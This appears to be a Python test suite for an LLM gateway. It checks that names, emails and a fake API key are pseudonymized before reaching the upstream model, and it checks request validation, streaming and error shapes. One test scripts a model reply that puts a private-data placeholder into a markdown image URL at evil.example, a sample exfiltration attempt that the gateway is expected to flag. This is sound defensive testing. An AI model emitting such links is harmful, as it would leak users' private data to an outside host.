"""What holds for every shape that clients speak: whatever is registered in `DIALECTS` is tried here.

A new dialect adds a `Sample` in `tests/dialect_samples.py`; the rest follows.
"""

from __future__ import annotations

import inspect
import json
import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from cosilo.errors import UnreachableError
from cosilo.gateway.web import api
from cosilo.gateway.web.dialects import DIALECTS
from cosilo.gateway.web.dialects.base import Dialect
from cosilo.models.kept.scripted import ScriptedModel
from cosilo.session import DefenceConfig
from cosilo.types import Chat
from dialect_samples import HEADERS, SAMPLES, Echo, ask, every, private
from house import Failing, house

MAIL = "ada@lovelace.example"


@every
async def test_a_private_value_never_reaches_the_upstream_and_comes_back(
    dialect: Dialect, tmp_path: Path
) -> None:
    sample = SAMPLES[dialect.endpoint]
    for stream in (False, True):
        h, model = await private(tmp_path)
        reply = await ask(h, dialect, f"Write to {MAIL}.", stream=stream)
        assert reply.status == 200, reply.body
        assert model.told
        assert "lovelace" not in repr(model.told)
        said = sample.streamed(reply.events) if stream else sample.text(reply.json)
        assert said == f"Write to {MAIL}."
        facts = h.books.settled[0][2]
        assert (facts.endpoint, facts.outcome, facts.stream) == (dialect.endpoint, "ok", stream)
        assert h.books.used.entities == 1


NAME, KEY = "Ada Lovelace", "sk-proj-Ab3dEf6hIj9kLmN0pQrStUvWxYz1234567890abcdefGH"
PRIVATE = f"Mr. {NAME} uses the key {KEY}."


@every
async def test_it_is_hidden_in_every_place_and_comes_back_whole_and_streamed(
    dialect: Dialect, tmp_path: Path
) -> None:
    """The upstream repeats all it was told."""
    sample = SAMPLES[dialect.endpoint]
    for place, fields in sample.places(PRIVATE).items():
        h, model = await private(tmp_path, all=True)
        for stream in (False, True):
            reply = await ask(h, dialect, "hi", stream=stream, **fields)
            assert reply.status == 200, (place, reply.body)
            said = sample.streamed(reply.events) if stream else sample.text(reply.json)
            assert NAME in said, (place, stream, said)
            assert KEY in said, (place, stream, said)
        assert len(model.told) == 2
        for private_text in (*NAME.split(), KEY):
            assert private_text not in repr(model.told), place


@every
async def test_a_reply_that_steers_carries_nothing_to_another_host(
    dialect: Dialect, tmp_path: Path
) -> None:
    """The upstream puts the placeholder it was given into the address of an image."""

    def steer(chat: Chat) -> str:
        [placeholder] = set(re.findall(r"PERSON_\w+", chat[-1].content))
        return f"Hello {placeholder}! ![](https://evil.example/{placeholder}.png)"

    sample = SAMPLES[dialect.endpoint]
    options = {"detectors": ["patterns"], "key_file": str(tmp_path / "key")}
    around = (DefenceConfig("hide", "pseudonym", options),)
    for stream in (False, True):
        h = await house(large=[ScriptedModel(steer)], around=around)
        reply = await ask(h, dialect, f"I am Mr. {NAME}.", stream=stream)
        said = sample.streamed(reply.events) if stream else sample.text(reply.json)
        assert f"Hello {NAME}!" in said
        assert re.search(r"evil\.example/PERSON_\w+\.png", said)
        where = reply.body.decode() if stream else json.dumps(reply.headers)
        assert "withheld" in where


@every
async def test_what_is_read_at_home_is_not_passed_on(dialect: Dialect) -> None:
    """There is no guard here, so nothing but the shape keeps it."""
    for place, fields in SAMPLES[dialect.endpoint].kept(PRIVATE).items():
        model = Echo()
        reply = await ask(await house(large=[model]), dialect, "hi", **fields)
        assert reply.status == 200, (place, reply.body)
        assert model.told
        assert KEY not in repr(model.told), place


@every
async def test_whole_and_streamed_say_the_same_and_are_booked_alike(dialect: Dialect) -> None:
    sample = SAMPLES[dialect.endpoint]
    text = 'né\n\n漢🙂 \u2028 \\ " done'
    h = await house(large=[Echo()])
    whole = await ask(h, dialect, text)
    streamed = await ask(h, dialect, text, stream=True, **sample.counting)
    assert sample.text(whole.json) == sample.streamed(streamed.events) == text
    assert sample.used(whole.json) == sample.counted(streamed.events) == (11, 5)
    (_, one, _), (_, other, _) = h.books.settled
    assert one == other
    assert (one.tokens_in, one.tokens_out) == (11, 5)
    assert h.books.open == {}


@every
async def test_what_is_wrong_is_told_in_the_dialects_own_shape_and_nothing_is_sent(
    dialect: Dialect,
) -> None:
    sample = SAMPLES[dialect.endpoint]
    model = Echo()
    h = await house(large=[model])
    good = {"model": "cosilo/x", **sample.body("hi")}
    headers = HEADERS.get(dialect.endpoint)
    for body, status in (
        (b"{", 400),
        (b"[]", 400),
        (b"\xff", 400),
        ({**good, "temperature": "hot"}, 400),
        ({**good, "temprature": 1}, 400),
        ({**good, "stream": "yes"}, 400),
        ({k: v for k, v in good.items() if k != "model"}, 400),
        ({**good, "model": "cosilo/y"}, 404),
        (b"x" * 20_000, 413),
    ):
        told = await h.send(dialect.path, body, headers=headers)
        assert told.status == status, body
        assert sample.error(told.json)
    assert "temprature" in sample.error((await ask(h, dialect, "hi", temprature=1)).json)
    assert (await h.send(dialect.path, good, key=None, headers=headers)).status == 401
    assert sample.error((await h.send(dialect.path, good, key="bad", headers=headers)).json)
    assert (await h.send(dialect.path, None, method="GET", headers=headers)).status == 405
    assert model.told == []
    assert h.books.settled == []


MARK = "Ada-Lovelace-1815"
ODD: list[Any] = [
    None, True, 0, -1, 1.5, 1e300, 2**70, "", MARK, [], [MARK], {}, {MARK: MARK}, {"type": MARK},
    [[[[]]]], [None], [3], "\u0000", "\u2028", [{"type": "text"}], {"text": 3}, "x" * 3000,
]  # fmt: skip


def changed(value: Any, draw: random.Random) -> Iterator[Any]:
    """`value`, parsed JSON, with one thing in it changed: each place in turn, to something odd."""
    yield draw.choice(ODD)
    if isinstance(value, dict):
        for name, inner in value.items():
            yield {k: v for k, v in value.items() if k != name}
            yield from ({**value, name: other} for other in changed(inner, draw))
    if isinstance(value, list):
        yield [*value, draw.choice(ODD)]
        for i, inner in enumerate(value):
            yield [*value[:i], *value[i + 1 :]]
            yield from ([*value[:i], other, *value[i + 1 :]] for other in changed(inner, draw))


@every
async def test_whatever_stands_anywhere_is_answered_or_refused_by_name_and_not_quoted(
    dialect: Dialect,
) -> None:
    sample = SAMPLES[dialect.endpoint]
    h = await house(large=[Echo()])
    statuses = set()
    for number, fields in enumerate(sample.places("hi").values()):
        good = {"model": "cosilo/x", **sample.body("hi"), **fields}
        draw = random.Random(number)
        for body in [other for _ in range(3) for other in changed(good, draw)]:
            data = json.dumps(body).encode()
            told = await h.send(dialect.path, data, headers=HEADERS.get(dialect.endpoint))
            statuses.add(told.status)
            assert told.status in (200, 400, 404), (body, told.body)
            if told.status != 200:
                assert sample.error(told.json), body
                # A point that is not known is named, with the nearest that is.
                assert told.status == 404 or MARK not in told.body.decode(), body
    assert {200, 400} <= statuses
    assert h.books.open == {}


@every
async def test_a_stream_that_breaks_ends_with_an_error(dialect: Dialect) -> None:
    large = Failing(fail=UnreachableError("the large model is down"))
    large.after = 2
    told = await ask(await house(large=[large]), dialect, "hi", stream=True)
    assert told.status == 200
    assert SAMPLES[dialect.endpoint].streamed(told.events) == "piece piece "
    assert "the large model is down" in json.dumps(told.events[-1])
    assert b"[DONE]" not in told.body


@every
async def test_every_answer_names_its_request(dialect: Dialect) -> None:
    h = await house(large=[Echo()])
    for fields in ({}, {"stream": True}, {"temprature": 1}):
        told = await ask(h, dialect, "hi", **fields)
        found = dict(dialect.headers(told.headers["x-cosilo-request-id"]))
        assert found.items() <= told.headers.items()


def test_there_is_one_way_from_a_request_to_its_answer() -> None:
    """Only `_answer` asks models, and only `_continue` calls it, with what a dialect read."""
    source = inspect.getsource(api)
    for name in ("answer_one", "stream_one"):
        assert len(re.findall(rf"\b{name}\(", source)) == 1
    assert len(re.findall(r"self\._whole\(|self\._stream\(", source)) == 2
    body = inspect.getsource(api.Gateway._answer)
    assert all(f"self.{name}(" in body for name in ("_whole", "_stream", "booking.reserve"))
    assert source.count("self._answer(") == 1
    assert sorted(SAMPLES) == sorted(d.endpoint for d in DIALECTS)


def test_a_dialect_sees_no_point_no_model_and_no_money() -> None:
    folder = Path(inspect.getsourcefile(api) or "").parent / "dialects"
    for file in folder.glob("*.py"):
        for module in re.findall(r"^(?:from|import) (cosilo\.\S+)", file.read_text("utf-8"), re.M):
            assert module in ("cosilo.types", "cosilo.gateway.refusals") or module.startswith(
                "cosilo.gateway.web.dialects"
            ), (file.name, module)
